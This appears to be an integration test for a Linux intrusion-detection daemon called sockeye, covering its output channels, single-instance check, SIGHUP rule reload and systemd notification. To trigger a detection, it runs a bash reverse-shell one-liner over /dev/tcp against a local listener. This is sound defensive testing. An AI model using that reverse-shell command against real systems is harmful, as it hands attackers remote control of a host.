/**
 * `sockeye run` as a service: configured from a file, the same finding reaches stdout, the
 * file output and a webhook (a real HTTP server on 127.0.0.1); a second daemon refuses to
 * start naming the first; SIGHUP with a new rule file makes that rule run without a
 * restart; systemd learns READY=1 through $NOTIFY_SOCKET; SIGTERM exits 0.
 */
import { afterAll, describe, expect, it } from "vitest";
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { CLI, PYTHON, kernelTier, run, startDaemon, tcpListener } from "./harness.js";

const tier = kernelTier();

async function poll<T>(read: () => T | undefined, timeoutMs = 5_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = read();
    if (value !== undefined) return value;
    if (Date.now() > deadline) throw new Error("timed out waiting");
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** A finding as the daemon prints it; only the fields these tests pick findings by are typed. */
interface FindingJson {
  rule?: { id?: string };
  finding?: { Port?: string };
  [field: string]: unknown;
}

const jsonLines = (text: string) => text.split("\n").filter(Boolean).map((line) => JSON.parse(line) as FindingJson);

describe.runIf(tier.run)("kernel: sockeye run as a service", () => {
  const dir = mkdtempSync(join(tmpdir(), "sockeye-service-"));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("file and webhook outputs, single instance, SIGHUP rule reload, clean stop", async () => {
    const posted: { headers: http.IncomingHttpHeaders; body: unknown }[] = [];
    const server = http.createServer((req, res) => {
      let body = "";
      req.on("data", (d) => (body += d));
      req.on("end", () => {
        posted.push({ headers: req.headers, body: JSON.parse(body) });
        res.writeHead(200).end();
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const webhookUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/ingest`;

    const rulesDir = join(dir, "rules.d");
    mkdirSync(rulesDir);
    const findingsFile = join(dir, "findings.jsonl");
    const configPath = join(dir, "sockeye.toml");
    writeFileSync(
      configPath,
      [
        "[rules]", `paths = ["${rulesDir}"]`,
        "[output]", 'stdout = "json"',
        "[output.file]", `path = "${findingsFile}"`,
        "[output.webhook]", `url = "${webhookUrl}"`, 'headers = { Authorization = "Bearer test-token" }',
        "[metrics]", "stats_interval_s = 1", 'prometheus_listen = "127.0.0.1:0"',
      ].join("\n"),
      // It holds a header with a credential: sockeye refuses such a config readable by others.
      { mode: 0o600 },
    );

    const daemon = startDaemon(["--config", configPath]);
    try {
      await daemon.waitFor(/ready/);

      const second = await run(process.execPath, [CLI, "run"]);
      expect(second.status).toBe(1);
      expect(second.stderr.trim()).toBe(
        `sockeye: another sockeye run is already active on this host (pid ${daemon.child.pid}): stop it first, two would report every attack twice`,
      );

      // A real reverse shell: its finding reaches stdout, the file and the webhook.
      const catcher = await tcpListener("127.0.0.1", "exit\n");
      await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${catcher.port} 0>&1`]);
      await catcher.close();
      const isOurs = (f: FindingJson) => f.rule?.id === "TRC-101" && f.finding?.Port === String(catcher.port);
      const onStdout = await poll(() => jsonLines(daemon.stdout()).find(isOurs));
      const inFile = await poll(() => jsonLines(readFileSync(findingsFile, "utf8")).find(isOurs));
      const viaWebhook = await poll(() => posted.flatMap((p) => p.body as FindingJson[]).find(isOurs));
      expect(inFile).toEqual(onStdout);
      expect(viaWebhook).toEqual(onStdout);
      expect(posted[0]!.headers["authorization"]).toBe("Bearer test-token");

      // Visibility: the Prometheus endpoint (its URL is in the ready line) and the stats line.
      const metricsUrl = /"metrics":"(http:\/\/127\.0\.0\.1:\d+\/metrics)"/.exec(daemon.stderr())![1]!;
      const scrape = await (await fetch(metricsUrl)).text();
      expect(Number(/^sockeye_findings_total\{rule="TRC-101"\} (\d+)$/m.exec(scrape)?.[1])).toBeGreaterThanOrEqual(1);
      expect(scrape).toMatch(/^sockeye_kernel_lost_records_total\{hook="socket_dup"\} \d+$/m);
      expect(Number(/^sockeye_output_written_total\{output="webhook"\} (\d+)$/m.exec(scrape)?.[1])).toBeGreaterThanOrEqual(1);
      await daemon.waitFor(/"message":"stats".*"findings":\{[^}]*"TRC-101":\d+/);

      // A rule that does not exist yet: the marker exec is not reported...
      const marker = `sockeye-reload-${process.pid}`;
      const markerFindings = () => jsonLines(daemon.stdout()).filter((f) => f.rule?.id === "test-reload-marker");
      await run("/usr/bin/true", [marker]);
      await new Promise((r) => setTimeout(r, 500));
      expect(markerFindings()).toEqual([]);
      // ...then it is dropped into the rules folder and the daemon gets SIGHUP.
      writeFileSync(
        join(rulesDir, "marker.toml"),
        ["[rule]", 'rule_id = "test-reload-marker"', 'name = "reload marker"', 'description = "test"', 'severity = "low"', 'type = "eql"',
          `query = 'process where process.name == "true" and process.args == "${marker}"'`].join("\n"),
      );
      const mark = daemon.stderr().length;
      daemon.child.kill("SIGHUP");
      await daemon.waitFor(/"message":"reloaded".*test-reload-marker/, mark);
      await run("/usr/bin/true", [marker]);
      const reloaded = await poll(() => markerFindings()[0]);
      expect(reloaded).toMatchObject({ rule: { id: "test-reload-marker", severity: "low" }, process: { name: "true", args: ["/usr/bin/true", marker] } });
      // The reload replaced the outputs: what the first webhook output delivered still counts.
      await poll(() => posted.flatMap((p) => p.body as FindingJson[]).find((f) => f.rule?.id === "test-reload-marker"));
      const written = async () =>
        Number(/^sockeye_output_written_total\{output="webhook"\} (\d+)$/m.exec(await (await fetch(metricsUrl)).text())?.[1]);
      // A scrape is served from a snapshot at most a second old: past that, this one is fresh.
      await new Promise((r) => setTimeout(r, 1100));
      expect(await written()).toBe(posted.flatMap((p) => p.body as unknown[]).length);

      // A reload with a broken rule keeps the running rules.
      writeFileSync(join(rulesDir, "broken.toml"), "[rule\n");
      const mark2 = daemon.stderr().length;
      daemon.child.kill("SIGHUP");
      await daemon.waitFor(/reload failed: still running the previous configuration.*broken\.toml:1/, mark2);
    } finally {
      expect(await daemon.stop()).toBe(0);
      await new Promise<void>((resolve) => server.close(() => resolve()));
    }
    expect(daemon.stderr()).toMatch(/"message":"stopped","signal":"SIGTERM"/);
  });

  it("tells systemd READY=1 through $NOTIFY_SOCKET once every hook is attached", async () => {
    const socketPath = join(dir, "notify.sock");
    // Node has no unix datagram sockets: python plays systemd's side.
    const listener = spawn(PYTHON, ["-c", [
      "import socket,sys",
      "s=socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM)",
      `s.bind(${JSON.stringify(socketPath)})`,
      "print('bound',flush=True)",
      "s.settimeout(20)",
      "for _ in range(2): print(s.recv(4096).decode().replace(chr(10),' '),flush=True)",
    ].join("\n")], { stdio: ["ignore", "pipe", "inherit"] });
    let heard = "";
    listener.stdout.on("data", (d) => (heard += d));
    await poll(() => (heard.includes("bound") ? true : undefined));
    const daemon = startDaemon([], { ...process.env, NOTIFY_SOCKET: socketPath });
    try {
      await daemon.waitFor(/ready/);
      await poll(() => (heard.includes("READY=1") ? true : undefined));
      expect(heard).toContain(`MAINPID=${daemon.child.pid}`);
    } finally {
      expect(await daemon.stop()).toBe(0);
    }
    await poll(() => (heard.includes("STOPPING=1") ? true : undefined));
    listener.kill();
  });
});
